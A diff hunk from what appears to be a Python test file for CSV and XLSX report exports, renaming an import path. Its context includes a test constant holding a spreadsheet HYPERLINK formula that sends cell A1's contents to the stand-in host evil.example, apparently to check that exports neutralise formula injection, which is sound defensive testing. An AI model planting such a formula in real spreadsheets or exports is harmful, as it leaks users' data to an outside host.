@@ -12,7 +12,7 @@ from openpyxl import load_workbook
 from reporting_forms.exports import export_csv, export_xlsx
 from reporting_forms.exports.cells import csv_field
 from reporting_forms.exports.revisions import revisions_csv, revisions_xlsx
-from storage.compiled import RevisionRow
+from storage.compile_inputs import RevisionRow
 from tests.test_compilation import build_catalog, compile_all, report
 
 LINK = '=HYPERLINK("http://evil.example/?"&A1,"Klikšķiniet")'
